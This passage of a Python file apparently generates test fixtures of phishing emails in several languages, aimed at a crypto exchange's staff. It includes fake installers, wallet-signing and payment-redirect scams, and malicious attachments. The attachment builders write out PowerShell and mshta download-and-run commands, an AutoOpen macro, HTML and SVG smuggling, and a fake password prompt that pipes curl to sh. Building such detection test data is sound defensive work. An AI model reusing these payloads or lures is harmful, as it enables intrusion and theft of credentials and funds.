Pour notre rendez-vous de jeudi avec nos associés, nous utilisons une salle chiffrée ClickMeeting.
Merci d'installer le module avant la réunion :

https://clickmeeting-room.eu/app/ClickMeetingSecure.pkg

Si macOS bloque l'ouverture, allez dans Réglages > Confidentialité et sécurité et cliquez sur
« Ouvrir quand même ».

Bien cordialement,
Antoine Véron
Lisière Partners""", "2026-11-16 10:05 +0100"))

add(L("investor-meeting-install", "ar",
      "Gulf investor's meeting requires a 'Skype for Business secure' exe from skype-business.live",
      ("فيصل النعيمي", "faisal@dunecrest-holdings.com"), HADDAD,
      "اجتماع المستثمرين غداً - برنامج الاتصال",
      """أخي عمر،

نؤكد اجتماع الغد الساعة 11 صباحاً. يستخدم مكتبنا العائلي نسخة آمنة من Skype للأعمال،
يرجى تنزيلها وتثبيتها قبل الاجتماع:

https://skype-business.live/secure/SkypeSecureSetup.exe

إذا ظهر تحذير من Windows اضغط "مزيد من المعلومات" ثم "تشغيل على أي حال".

فيصل النعيمي
دون كرست القابضة""", "2026-11-17 15:10 +0400"))

# ---------------------------------------------------------------- trading-app
add(L("trading-app", "en",
      "unnotarised 'funding-rate heatmap' dmg from an unknown analytics site with xattr -cr",
      ("Fundwave Analytics", "desk@fundwave-analytics.app"), TANAKA,
      "Your Fundwave Pro trial is ready",
      """Hi Mika,

Thanks for signing up at the Singapore meetup. Your 30-day Fundwave Pro licence is active.
Download the desktop app (funding-rate heatmap + liquidation map for 40 venues):

https://fundwave-analytics.app/dl/Fundwave-Pro-2.3.dmg

Because we distribute outside the App Store, run this once after copying it to Applications:

  xattr -cr /Applications/Fundwave\\ Pro.app

Then connect your exchange accounts with read+trade API keys to see your own positions on the map.

The Fundwave team""", "2026-11-05 12:40 +0800"))

add(L("trading-app", "en",
      "typosquatted pip package 'ccxt-pro-turbo' from a stranger that wants withdrawal-enabled API keys",
      ("Viktor Sandell", "viktor.sandell@protonmail.com"), SUZUKI,
      "Faster ccxt for your market-making bots",
      """Hi Kenta,

Saw your talk on exchange connectivity. We maintain a faster drop-in for ccxt with native order
batching, used by a few prop desks:

  pip install ccxt-pro-turbo

It reads keys from the same env vars as ccxt. For the auto-rebalancing to work across venues you need
keys with withdrawal enabled and no IP whitelist (it routes through our relay for latency).

Happy to help on a call.
Viktor""", "2026-11-08 14:25 +0100"))

add(L("trading-app", "ja",
      "Japanese 'volatility arbitrage' tool as an msi from an unknown site, admin rights and SmartScreen bypass",
      ("ボルトレード・ジャパン", "support@voltrade-jp.com"), TANAKA_JA,
      "【無料提供】ボラティリティ裁定ツール 法人版のご案内",
      """田中 美香 様

突然のご連絡失礼いたします。暗号資産交換業者様向けに、オプションのボラティリティ裁定を
自動化するツール「VolArb Pro 法人版」を期間限定で無償提供しております。

ダウンロード: https://voltrade-jp.com/download/VolArbPro_Setup.msi

インストールには管理者権限が必要です。SmartScreen の警告が出た場合は「詳細情報」から
「実行」を選択してください。起動後、取引用APIキー（出金権限付き）を登録いただくと
自動リバランスが有効になります。

ボルトレード・ジャパン合同会社""", "2026-11-09 11:20 +0900"))

add(L("trading-app", "ko",
      "Korean 'liquidation alert' Android app as a direct APK with unknown sources enabled",
      ("청산알리미", "help@liqalert.kr"), PARK,
      "선물 청산 알림 앱 기관용 베타 초대",
      """안녕하세요 박대현 님,

거래소 운영팀을 위한 '청산알리미' 기관용 베타에 초대합니다. 주요 거래소의 대량 청산을
실시간으로 알려 드립니다.

플레이스토어 심사 중이라 아래 APK로 직접 설치해 주세요.
https://liqalert.kr/beta/liqalert-pro-1.4.apk

설치 시 '출처를 알 수 없는 앱 허용'을 켜고, 접근성 권한을 허용해야 알림이 정상 작동합니다.

청산알리미 팀""", "2026-11-12 08:15 +0900"))

add(L("trading-app", "zh",
      "Chinese copy-trading terminal exe from an unknown site asking for API keys with withdrawal rights",
      ("跟单宝 客户经理", "vip@gendan-pro.com"), LI,
      "机构跟单终端 免费试用",
      """李总您好，

我们的机构跟单终端已为多家交易所做市团队提供服务，可一键复制顶级交易员的仓位。

下载地址：https://gendan-pro.com/client/GendanPro_Setup_x64.exe

安装后请绑定交易所API（需开启交易和提币权限，以便自动划转保证金），无需设置IP白名单。
杀毒软件可能误报，请添加信任。

跟单宝 客户经理""", "2026-11-13 10:05 +0800"))

add(L("trading-app", "fr",
      "French 'triangular arbitrage robot' jar from a stranger, run with java -jar and withdrawal-enabled keys",
      ("Hugo Delacroix", "hugo.delacroix.trading@gmail.com"), LAURENT,
      "Robot d'arbitrage triangulaire - version pro",
      """Bonjour Camille,

Comme évoqué au salon, voici notre robot d'arbitrage triangulaire en version professionnelle :
https://drive.google.com/uc?id=1tRiArb9xK2pQm&export=download (ArbitrageTri-4.1.jar)

Lancez-le avec `java -jar ArbitrageTri-4.1.jar` puis renseignez des clés API avec droit de retrait,
le robot rééquilibre automatiquement les soldes entre les plateformes. Inutile de passer par votre
service informatique, il ne nécessite aucune installation.

Hugo""", "2026-11-14 16:30 +0100"))

add(L("trading-app", "ar",
      "Arabic 'AI signals' Windows app from a shared Google Drive link, antivirus off",
      ("فريق إشارات النخبة", "elite.signals.team@outlook.com"), HADDAD,
      "برنامج الإشارات بالذكاء الاصطناعي - نسخة المؤسسات",
      """السيد عمر حداد،

يسعدنا تقديم نسخة المؤسسات من برنامج إشارات التداول بالذكاء الاصطناعي مجاناً لمدة شهر.

رابط التنزيل: https://drive.google.com/file/d/1AiSgNlPr0x7/view (EliteSignals_Setup.exe)

قد يعتبره برنامج الحماية خطراً لأنه غير موقّع بعد، لذا يرجى إيقاف الحماية مؤقتاً أثناء التثبيت،
ثم ربط مفاتيح API الخاصة بالتداول.

مع التحية""", "2026-11-15 13:45 +0400"))

# ---------------------------------------------------------------- wallet-request
add(L("wallet-request", "en",
      "'gas sponsor' asks treasury to sign an EIP-7702 authorization delegating the hot wallet EOA to an unknown contract",
      ("Paymaster Relations | Gasleaf", "partners@gasleaf.xyz"), TANAKA,
      "Zero-gas withdrawals for Kitsune - one signature to enable",
      """Hi Mika,

Following Pectra, we can sponsor gas for all of Kitsune's outgoing withdrawals. To enable it, the
hot wallet only needs to sign one EIP-7702 authorization pointing at our delegation contract:

  chain_id: 1
  address (delegate): 0x7E11a2b9c05D4f38E6A0c2Bd91F47e3a58C0d6A1
  nonce: current

Sign it with the hot wallet key (0x...a11ce) through our dashboard at https://app.gasleaf.xyz/authorize
and withdrawals will be gasless from the next block. No funds move, it is only a delegation.

Best,
Gasleaf Partnerships""", "2026-11-05 15:30 +0000"))

add(L("wallet-request", "en",
      "'custodian ops' on Gmail asks for a co-signature on a PSBT that sweeps the cold wallet to a new address",
      ("Aldric Hume - Custody Ops", "aldric.hume.custody@gmail.com"), TREASURY,
      "PSBT for co-signature: cold wallet consolidation",
      """Treasury team,

As discussed with your CFO, we are consolidating the cold-wallet UTXOs before the year-end audit.
Attached below is the PSBT (base64). Please load it in your signer, add your signature and send
the signed PSBT back to this address today; we will add ours and broadcast.

Destination after consolidation: bc1qz8h4ktm0x3l7vd2p9w6c5nq4yj8rsf0e2uat7g (new multisig)

cHNidP8BAHUCAAAAAYq2n1tmVkYl5mX8Zl0p8ZkqWJ0A9mKQW1m3t7pQkR0sAAAAAAD/////AkBCDwAAAAAAF6kU...

No need to open a ticket, this is a routine operation.

Aldric Hume
Custody Operations""", "2026-11-07 09:40 +0000"))

add(L("wallet-request", "ja",
      "'Squads v4 migration' asks to approve a Solana multisig config change adding an unknown member and dropping the threshold to 1",
      ("Squads サポート（日本）", "support@squads-jp.com"), TANAKA_JA,
      "【重要】Squads v4 への移行手続き（マルチシグ設定の承認）",
      """田中様

Squads をご利用いただきありがとうございます。v3 のサポート終了に伴い、貴社マルチシグの
v4 移行をこちらで準備しました。下記の設定変更トランザクションを承認してください。

  追加メンバー: 9xQe7VhB3kYt2Lw8mN4pRzC6dF1sJ5aG7uH0oK2iP3vT（移行用サービスアカウント）
  しきい値: 2 → 1（移行期間中のみ）

承認ページ: https://app.squads-jp.com/multisig/approve/ms-88421

移行完了後、しきい値は自動で元に戻ります。

Squads Japan サポート""", "2026-11-10 11:00 +0900"))

add(L("wallet-request", "ko",
      "'insurer' asks for photos of the cold wallet's Shamir backup shares for underwriting",
      ("해담손해보험 인수심사팀", "underwriting@haedam-insure.co.kr"), PARK,
      "가상자산 보관 보험 인수심사 자료 요청",
      """박대현 님,

가상자산 보관 보험 인수심사를 위해 아래 자료를 11월 14일까지 회신 부탁드립니다.

1. 콜드월렛 백업 방식 설명서
2. Shamir 백업 조각(share) 각각의 사진 또는 스캔본 (보관 실태 확인용)
3. 보관 장소 사진

자료는 심사 후 즉시 폐기하며, 암호화된 메일로 보내셔도 됩니다.

해담손해보험 인수심사팀""", "2026-11-11 13:30 +0900"))

add(L("wallet-request", "zh",
      "'staking partner' asks the desk to sign a Cosmos authz MsgGrant with GenericAuthorization for MsgSend",
      ("磐石质押 技术支持", "tech@panshi-staking.com"), LI,
      "授权委托签名 - 自动复投",
      """李伟您好，

为开启自动复投，请使用贵司的 Cosmos 热钱包签署以下授权：

  MsgGrant
  grantee: cosmos1q9hw7k3m5x2ld8e0vn4rj6sctf0yp7ga3uw5zk
  authorization: GenericAuthorization  msg: /cosmos.bank.v1beta1.MsgSend
  expiration: 2028-12-31

签名页面：https://panshi-staking.com/authz/sign
签名后我们即可每日自动把奖励复投，无需贵司人工操作。

磐石质押 技术支持""", "2026-11-13 14:40 +0800"))

add(L("wallet-request", "fr",
      "market-making 'partner' on Gmail changes its ETH payout address, 'no need to call'",
      ("Julien Barraud - Ossian Liquidité", "julien.barraud.ossian@gmail.com"), LAURENT,
      "Changement d'adresse de règlement",
      """Bonjour Camille,

Suite à un audit de sécurité interne, nous avons changé de portefeuille de règlement. À partir
d'aujourd'hui, merci de verser nos commissions de market making en ETH sur :

0x3b9D0e12F6a87C54a1E9d27c0B6f43aE815D2c7F

Inutile de nous appeler pour confirmer, notre standard est saturé cette semaine ; ce mail fait foi.
Le prochain versement est prévu vendredi.

Cordialement,
Julien Barraud
Ossian Liquidité""", "2026-11-17 10:10 +0100"))

add(L("wallet-request", "ar",
      "'TRON energy rental' asks the desk to sign an unlimited USDT approve for a rental contract",
      ("خدمة تأجير الطاقة - ترون", "support@tronpower-rent.io"), HADDAD,
      "خفض رسوم التحويل بنسبة 80٪",
      """مرحباً،

يمكنكم خفض رسوم تحويل USDT على شبكة TRON بنسبة 80٪ عبر استئجار الطاقة من منصتنا. لتفعيل
الخدمة يكفي توقيع معاملة approve واحدة لعقدنا:

  token: USDT (TRC20)
  spender: TQ7vRr9kP2mXh4Lw8cN1sB6dJ3fY5aE0uZ
  amount: unlimited

بعد التوقيع سيتم خصم الرسوم تلقائياً من رصيدكم. رابط التوقيع:
https://tronpower-rent.io/approve

فريق الدعم""", "2026-11-18 09:25 +0400"))

# ---------------------------------------------------------------- attachment
_TS_LNK = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "-w hidden -nop -c \"iwr https://docs.ravenmoor-partners.com/t/ts.ps1 -UseB|iex\"",
              r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe,11", name="Term Sheet")
add(L("attachment", "en",
      "ISO image holding a .pdf.lnk that runs hidden PowerShell and a DLL stub, sent as a 'term sheet'",
      ("Ravenmoor Partners", "deals@ravenmoor-partners.com"), CFO,
      "Term sheet - Series C secondary (for your review)",
      """Emily,

Please find our indicative term sheet for the secondary purchase attached. The file is packaged as a
disk image by our data-room software; open it and double-click the PDF inside.

Comments by Friday would be appreciated.

Regards,
Ravenmoor Partners""", "2026-11-05 17:20 +0000",
      attachments=(Att("Ravenmoor_TermSheet_SeriesC.iso",
                       iso_image([("Ravenmoor_TermSheet_SeriesC.pdf.lnk", _TS_LNK),
                                  ("rsrc.dll", pe_stub("ravenmoor-dll"))], volume="TERMSHEET"), ISO),)))

add(L("attachment", "en",
      "AES 7z with its password in the body holding a .cpl (Control Panel DLL) named as a reconciliation",
      ("Verrano Prime Reconciliations", "recon@verrano-prime-ops.com"), TREASURY,
      "November reconciliation (encrypted)",
      """Hello,

The November reconciliation pack is attached, encrypted as agreed.
Password: VP-Nov-2026!

Please confirm the balances by end of day.

Reconciliations Team""", "2026-11-09 06:55 +0000",
      attachments=(Att("Recon_Nov2026.7z",
                       seven_zip([("Recon_Nov2026_balances.cpl", pe_stub("cpl-recon"))], "VP-Nov-2026!",
                                 "set-m-recon"), SEVENZ),)))

add(L("attachment", "ja",
      "CHM 'trade report' whose ShortCut object runs mshta against an outside host",
      ("取引報告書センター", "report@torihiki-hokoku.jp"), TANAKA_JA,
      "【取引報告書】2026年10月分のご送付",
      """田中様

2026年10月分の取引報告書をお送りいたします。
添付のヘルプファイル形式の報告書を開いてご確認ください。
（ファイルを開く際にセキュリティ警告が表示される場合は「開く」を選択してください）

取引報告書センター""", "2026-11-06 09:10 +0900",
      attachments=(Att("取引報告書_202610.chm",
                       chm("取引報告書 2026年10月", "mshta.exe,https://cdn.torihiki-hokoku.jp/r/view.hta",
                           "set-m-chm"), "application/vnd.ms-htmlhelp"),)))

_NDA_ZIP = zip_archive([("Signed_NDA.ps1",
                         b"$u='https://files.veridane-legal.com/n/a.ps1'\r\n"
                         b"IEX (New-Object Net.WebClient).DownloadString($u)\r\n")])
add(L("attachment", "en",
      "SVG 'signed NDA' that smuggles a zip holding a PowerShell downloader",
      ("Veridane Legal e-Sign", "esign@veridane-legal.com"), CEO,
      "Document completed: Mutual NDA - Kitsune Exchange / Veridane",
      """All parties have signed "Mutual NDA - Kitsune Exchange / Veridane".

Open the attached signed copy in your browser to download the certified version.

Veridane Legal e-Sign""", "2026-11-08 01:30 +0000",
      attachments=(Att("Signed_NDA_Kitsune.svg",
                       svg_smuggling(_NDA_ZIP, "Signed_NDA.zip", "Preparing your signed document..."),
                       "image/svg+xml"),)))

_KO_MACRO = ('Sub AutoOpen()\r\n  Dim s\r\n  Set s = CreateObject("WScript.Shell")\r\n'
             '  s.Run "powershell -w hidden -c iwr https://ir.nuribom-partners.kr/f/u.ps1 -UseB|iex", 0\r\n'
             'End Sub\r\n')
add(L("attachment", "ko",
      "Korean investment proposal .docm whose AutoOpen macro runs a PowerShell downloader",
      ("누리봄파트너스 투자팀", "invest@nuribom-partners.kr"), PARK,
      "투자제안서 송부 (매크로 허용 필요)",
      """박대현 님,

요청하신 투자제안서를 첨부합니다. 표와 차트가 매크로로 생성되므로 문서를 연 뒤
상단의 '콘텐츠 사용'을 눌러 주셔야 정상적으로 보입니다.

누리봄파트너스 투자팀 드림""", "2026-11-10 15:00 +0900",
      attachments=(Att("투자제안서_누리봄파트너스.docm",
                       word_document(["투자제안서", "콘텐츠 사용을 눌러 주세요."],
                                     [("ThisDocument", _KO_MACRO, True)]),
                       "application/vnd.ms-word.document.macroEnabled.12"),)))

add(L("attachment", "zh",
      "RLO file name makes an .exe look like a .jpg statement (对账单2026<RLO>gpj.exe)",
      ("锦禾贸易 财务", "caiwu@jinhe-trade.com"), LI,
      "对账单（截图）请核对",
      """李先生您好，

附件是上月的对账单截图，请核对后回复确认。如有差异请尽快告知。

锦禾贸易 财务部""", "2026-11-11 16:20 +0800",
      attachments=(Att("对账单2026\u202egpj.exe", pe_stub("rlo-statement")),)))

add(L("attachment", "fr",
      "Excel add-in (.xll, a PE DLL) sent as a 'valuation model'",
      ("Cabinet Ormesson & Associés", "analyse@ormesson-associes.fr"), LAURENT,
      "Modèle de valorisation - version finale",
      """Bonjour Camille,

Voici notre modèle de valorisation finalisé. Il s'agit d'un complément Excel : double-cliquez sur le
fichier et cliquez sur « Activer ce complément pour cette session uniquement » pour charger les
calculs.

Cordialement,
Cabinet Ormesson & Associés""", "2026-11-12 11:30 +0100",
      attachments=(Att("Modele_Valorisation_Kitsune.xll", pe_stub("xll-valo")),)))

_AR_ZIP = zip_archive([("فاتورة_INV-7741.pdf.lnk",
                        lnk(r"C:\Windows\System32\mshta.exe", "https://pay.zumurrud-logistics.com/i/v.hta",
                            r"C:\Windows\System32\imageres.dll,2", name="Invoice"))])
add(L("attachment", "ar",
      "HTML 'invoice viewer' that smuggles a zip holding a .pdf.lnk running mshta",
      ("زمرد للخدمات اللوجستية - الحسابات", "accounts@zumurrud-logistics.com"), HADDAD,
      "فاتورة مستحقة INV-7741",
      """السيد عمر،

مرفق عارض الفاتورة رقم INV-7741 المستحقة هذا الأسبوع. افتح الملف في المتصفح ليتم تنزيل
الفاتورة، ثم افتح الملف الناتج.

قسم الحسابات""", "2026-11-13 09:40 +0400",
      attachments=(Att("INV-7741_viewer.html",
                       html_smuggling(_AR_ZIP, "INV-7741.zip", "فاتورة INV-7741", "جاري تجهيز الفاتورة..."),
                       HTML),)))

add(L("attachment", "en",
      "zipped AppleScript .app 'audit portal' that fakes a password prompt and fetches a script",
      ("Greyhollow Audit", "portal@greyhollow-audit.com"), CFO,
      "Year-end audit portal - install for Mac",
      """Dear Emily,

To upload the year-end audit evidence, please use our portal app for Mac (attached). Unzip it, open
"Greyhollow Portal" and enter your Mac password when it asks for permission to access the Documents
folder.

Greyhollow Audit LLP""", "2026-11-14 02:00 +0000",
      attachments=(Att("Greyhollow_Portal.zip",
                       mac_app_zip("Greyhollow Portal",
                                   'set r to display dialog "Greyhollow Portal needs your password" '
                                   'default answer "" with hidden answer\n'
                                   'do shell script "curl -s https://greyhollow-audit.com/p/init.sh | sh -s " & '
                                   "quoted form of (text returned of r)\n"), ZIP),)))

add(L("attachment", "en",
      "double extension: a zip holding Invoice_INV-5520.xlsx.exe",
      ("Billing - Quarrymoor Hosting", "billing@quarrymoor-hosting.net"), KEIRI,
      "Overdue invoice INV-5520 - final reminder",
      """Dear customer,

Our records show that invoice INV-5520 is overdue. The invoice is attached; please settle it within
3 business days to avoid suspension of your services.

Quarrymoor Hosting Billing""", "2026-11-16 04:30 +0000",
      attachments=(Att("INV-5520.zip", zip_archive([("Invoice_INV-5520.xlsx.exe", pe_stub("double-ext"))]), ZIP),)))

add(L("attachment", "ja",
      "password ZIP with the password in the same mail, holding a VBScript posing as a PDF (見積書.pdf.vbs)",
      ("株式会社月見商会 営業部", "eigyo@tsukimi-shokai.co.jp"), KEIRI,
      "お見積書送付の件",
      """経理部 ご担当者様

いつもお世話になっております。月見商会の営業部です。
ご依頼いただいたお見積書をお送りいたします。

パスワード: ms2026quote

ご確認のほどよろしくお願いいたします。""", "2026-11-17 10:20 +0900",
      attachments=(Att("見積書_20261117.zip",
                       zip_archive([("見積書_20261117.pdf.vbs",
                                     vbs("powershell -w hidden -c iwr https://tsukimi-shokai.co.jp.dl-files.net/q.ps1|iex",
                                         "https://www.tsukimi-shokai.co.jp/"))], password="ms2026quote"), ZIP),)))

add(L("attachment", "en",
      "MSI 'Fireblocks co-signer patch' attachment with a PowerShell custom action",
      ("Fireblocks Support", "support@fireblocks-cosigner.com"), SUZUKI,
      "Co-signer patch 2.9.4 (attached)",
      """Hi,

A vulnerability was found in the API Co-Signer. Please install the attached patch on the co-signer
host today; it does not require downtime.

Fireblocks Support""", "2026-11-18 01:10 +0000",
      attachments=(Att("CoSigner_Patch_2.9.4.msi",
                       msi("Fireblocks CoSigner Patch",
                           "powershell -w hidden -c iwr https://fireblocks-cosigner.com/p/s.ps1|iex"),
                       "application/x-msi"),)))

# ---------------------------------------------------------------- conversation-hijack
add(L("conversation-hijack", "en",
      "reply in Pinemarsh's real thread from dropped-letter lookalike pinemarsh-setlement.com changing the USDC settlement address (In-Reply-To set)",
      (PINEMARSH[0], PINEMARSH[2]), TANAKA,
      "RE: November settlement schedule - Pinemarsh / Kitsune",
      """Hi Mika,

One update before Friday's run: our USDC settlement wallet has been rotated as part of our custody
migration. Please use the new address for this and all future settlements:

0x91Fd2C0b7e3A58d4E6c21B9a0F7e4D3c5B8a62E1

The rest of the schedule stays as agreed. No need to re-confirm by phone, the migration notice went
to all counterparties.

Best,
Nadia

> From: Nadia Holloway <n.holloway@pinemarsh-settlement.com>
> Subject: November settlement schedule - Pinemarsh / Kitsune""", "2026-11-06 16:05 +0000",
      in_reply_to=MID_PINEMARSH,
      references=MID_PINEMARSH))

add(L("conversation-hijack", "ja",
      "reply in Kiryu Securities' real thread from dropped-letter kiryu-sc.co.jp with a password zip holding a .pdf.lnk (In-Reply-To set)",
      (KIRYU[0], KIRYU[2]), TANAKA_JA,
      "RE: 11月分 約定確認書のご送付",
      """田中様

いつもお世話になっております。桐生証券の大森です。
先ほどお送りした約定確認書に一部誤りがございましたので、修正版をお送りいたします。

パスワード: KS1108

お手数ですが差し替えをお願いいたします。

大森""", "2026-11-08 13:40 +0900",
      in_reply_to=MID_KIRYU, references=MID_KIRYU,
      attachments=(Att("約定確認書_修正版.zip",
                       zip_archive([("約定確認書_修正版.pdf.lnk",
                                     lnk(r"C:\Windows\System32\cmd.exe",
                                         "/c start /min mshta https://kiryu-sc.co.jp/doc/v.hta",
                                         r"C:\Windows\System32\shell32.dll,1", name="約定確認書"))],
                                   password="KS1108"), ZIP),)))

add(L("conversation-hijack", "ko",
      "reply in Yeonwoo Custody's real thread from zero-for-o yeonwoo-cust0dy.co.kr changing the fee bank account (In-Reply-To set)",
      (YEONWOO[0], YEONWOO[2]), PARK,
      "RE: 11월 보관 수수료 청구서",
      """박대현 님,

청구서 관련하여 정정 안내드립니다. 당사 주거래 은행이 변경되어 이번 달부터 수수료는
아래 계좌로 입금 부탁드립니다.

은행: 케이뱅크
계좌: 100-214-558821
예금주: 연우커스터디(주)

기존 계좌는 이번 주 해지 예정이니 반드시 새 계좌로 보내 주세요.

정민수 드림""", "2026-11-09 10:50 +0900",
      in_reply_to=MID_YEONWOO, references=MID_YEONWOO))

add(L("conversation-hijack", "zh",
      "回复 without In-Reply-To from hyphen-dropped runzeotc.com.hk linking an 'updated contract' exe on a file host",
      (RUNZE[0], RUNZE[2]), LI,
      "回复: 场外结算对账 11月",
      """李伟您好，

对账表已更新，另附修订后的结算协议，请下载查看并签字：

https://files.runzeotc.com.hk/share/Runze_Settlement_Agreement_v2.exe

文件较大，已打包为自解压格式，双击即可打开。

陈思远
润泽场外""", "2026-11-10 17:25 +0800"))

add(L("conversation-hijack", "fr",
      "TR: forward from l-for-i lookalike banque-morveile.fr announcing a new IBAN for the escrow return",
      (MORVELLE[0], MORVELLE[2]), LAURENT,
      "TR: Compte séquestre - restitution des fonds",
      """Bonjour Camille,

Je vous transfère la note de notre direction des opérations. Suite à la migration de notre système
de paiement, la restitution du séquestre doit être effectuée sur le compte suivant :

IBAN : FR76 1695 8000 0154 2270 9931 842
BIC : QNTOFRP1XXX

Merci de mettre à jour vos coordonnées avant l'opération de vendredi.

Hélène Garnier
Banque Morvelle

-------- Message transféré --------
De : Direction des opérations
Objet : Migration des comptes de règlement""", "2026-11-12 09:15 +0100"))

add(L("conversation-hijack", "ar",
      "reply in Nakheel Crest's real thread from nakheelcrest-ae.net linking a fake signed-term-sheet portal asking for Microsoft 365 login (In-Reply-To set)",
      (NAKHEEL[0], NAKHEEL[2]), HADDAD,
      "رد: مسودة الشروط - نخيل كرست / كيتسوني",
      """أخي عمر،

تم توقيع مسودة الشروط من جهتنا. يمكنك الاطلاع على النسخة الموقعة عبر بوابة المستندات:

https://docs.nakheelcrest-ae.net/view/term-sheet-signed

ستحتاج إلى تسجيل الدخول بحساب Microsoft 365 الخاص بشركتك لفتح المستند.

يوسف المنصوري""", "2026-11-13 12:30 +0400",
      in_reply_to=MID_NAKHEEL, references=MID_NAKHEEL))

add(L("conversation-hijack", "en",
      "FW: without In-Reply-To from hyphen-added verrano-prime.com: 'release the BTC now, fiat follows tomorrow'",
      (VERRANO[0], VERRANO[2]), LI,
      "FW: OTC ticket VP-3391 - settlement",
      """Li Wei,

Forwarding the confirmation from our treasury. Our USD wire is delayed by a bank holiday on their
side; please release the 25 BTC on ticket VP-3391 now to the usual address and the fiat will land
tomorrow morning. We have done this many times, the desk manager is aware.

Callum

---------- Forwarded message ----------
From: Verrano Prime Treasury
Subject: VP-3391 wire status""", "2026-11-16 08:45 +0000"))
